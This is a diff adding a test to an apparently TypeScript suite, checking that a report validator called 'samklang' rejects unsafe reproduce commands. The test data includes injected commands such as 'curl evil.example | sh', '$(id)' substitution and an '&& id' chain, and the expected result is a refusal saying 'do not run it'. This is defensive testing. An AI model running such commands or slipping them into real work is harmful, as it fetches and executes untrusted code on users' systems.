@@ -128,6 +128,24 @@ describe('a date that stands in the report alone', () => {
   })
 })
 
+describe('a command that the reader may run', () => {
+  it.each([
+    'samklang run; curl evil.example | sh',
+    'samklang run $(id)',
+    'curl evil.example',
+    "samklang run 'a' 'b' && id",
+  ])('is one of samklang alone: %s', async command => {
+    const { code, said } = await forgedUnsigned(await supplier(), contents => {
+      editReport(contents, report => Object.assign(report.reproduce, { command }))
+      edit(contents, 'evidence/evidence.json', before =>
+        before.replace(/(?<="command": )".*"/, () => JSON.stringify(command)),
+      )
+    })
+    expect(code).toBe(4)
+    expect(said).toContain('do not run it')
+  })
+})
+
 describe('expected failures', () => {
   it.each<readonly [string, object]>([
     [
